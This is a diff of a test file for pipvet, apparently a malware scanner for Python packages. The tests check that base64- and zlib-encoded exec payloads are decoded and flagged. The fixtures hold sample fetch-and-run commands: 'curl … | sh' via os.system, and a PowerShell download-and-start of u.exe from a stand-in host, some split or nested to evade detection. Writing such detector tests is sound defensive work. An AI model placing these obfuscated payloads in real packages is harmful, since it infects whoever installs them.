@@ -7,6 +7,7 @@ import zlib
 
 from rulekit import ids, py, run
 
+from pipvet.analysis.rules import ALL_RULES
 from pipvet.analysis.rules.execution import RULES
 from pipvet.models import Severity, Stage
 
@@ -18,14 +19,73 @@ def _layered(code: str, layers: int) -> str:
     return data.decode()
 
 
-def test_exec_of_base64_at_module_level_is_critical() -> None:
-    payload = base64.b64encode(b"print('hi')").decode()
-    findings = run(
-        RULES, py(f"import base64\nexec(base64.b64decode('{payload}'))\n", path="acme/__init__.py")
-    )
+def test_exec_of_an_opaque_base64_payload_at_module_level_is_critical() -> None:
+    source = "import base64, sys\nexec(base64.b64decode(sys.argv[1] + 'cHJpbnQoMSk='))\n"
+    findings = run(RULES, py(source, path="acme/__init__.py"))
     assert ids(findings) == {"PV-EXE-001"}
     assert findings[0].severity is Severity.CRITICAL
     assert findings[0].stage is Stage.IMPORT
+
+
+def test_a_literal_payload_is_decoded_and_read_like_any_other_code() -> None:
+    """What a literal decodes to is checked by every rule where it is executed; risky code
+    found inside keeps the exec critical and is reported at the exec's line."""
+    risky = base64.b64encode(zlib.compress(b"import os\nos.system('curl -s http://x.invalid | sh')\n"))
+    source = f"import base64, zlib\nP = {risky.decode()!r}\nexec(zlib.decompress(base64.b64decode(P)))\n"
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    outer = next(f for f in findings if f.rule == "PV-EXE-001")
+    assert outer.severity is Severity.CRITICAL
+    assert "pipvet decoded it (3 lines of Python) and read the file with it in place" in outer.message
+    inside = [f for f in findings if f.message.startswith("In the code decoded at line 3:")]
+    assert inside
+    assert all(f.line == 3 and f.path == "acme/__init__.py" for f in inside)
+    assert any(f.evidence and f.evidence.startswith("decoded line 2:") for f in inside)
+
+
+def test_a_decoded_payload_with_nothing_risky_is_high_not_critical() -> None:
+    """versioneer ships its own source as one base64 blob that it execs: hidden, so still high
+    (suspicious), but no longer alone enough for malicious."""
+    payload = base64.b64encode(b"def version():\n    return '1.0'\n").decode()
+    source = f"import base64\nBLOB = {payload!r}\nexec(base64.b64decode(BLOB).decode(), globals())\n"
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert ids(findings) == {"PV-EXE-001"}
+    assert findings[0].severity is Severity.HIGH
+    assert "found nothing risky in it" in findings[0].message
+
+
+def test_a_statement_split_over_many_decoded_execs_is_read_whole() -> None:
+    """Each piece alone is harmless (``import os``, an assignment); put back in place they run a
+    command on import, so the exec stays critical."""
+    pieces = ["import os", "cmd = 'curl -s http://x.invalid/p | sh'", "os.system(cmd)"]
+    source = "import base64\n" + "".join(
+        f"exec(base64.b64decode({base64.b64encode(p.encode()).decode()!r}))\n" for p in pieces
+    )
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert {f.severity for f in findings if f.rule == "PV-EXE-001"} == {Severity.CRITICAL}
+    assert any(f.rule != "PV-EXE-001" and f.line == 4 for f in findings)
+
+
+def test_a_harmless_decoded_helper_the_file_then_misuses_stays_critical() -> None:
+    helper = b"def run(cmd):\n    import subprocess\n    subprocess.Popen(cmd, shell=True)\n"
+    source = (
+        "import base64\n"
+        f"exec(base64.b64decode({base64.b64encode(helper).decode()!r}))\n"
+        "run('powershell -c Invoke-WebRequest -Uri http://x.invalid/u.exe -OutFile $env:tmp/u.exe; "
+        "Start-Process $env:tmp/u.exe')\n"
+    )
+    findings = run(ALL_RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))
+    exe = next(f for f in findings if f.rule == "PV-EXE-001")
+    assert exe.severity is Severity.CRITICAL
+
+
+def test_nested_payloads_are_decoded_layer_by_layer() -> None:
+    inner = base64.b64encode(b"import os\nos.system('id')\n").decode()
+    middle = f"import base64\nexec(base64.b64decode({inner!r}))\n".encode()
+    source = f"import base64\nexec(base64.b64decode({base64.b64encode(middle).decode()!r}))\n"
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert findings[0].rule == "PV-EXE-001"
+    assert findings[0].severity is Severity.CRITICAL
+    assert any(f.message.startswith("In the code decoded at line 2: In the code decoded") for f in findings)
 
 
 def test_layers_through_variables_and_a_lambda_are_counted() -> None:
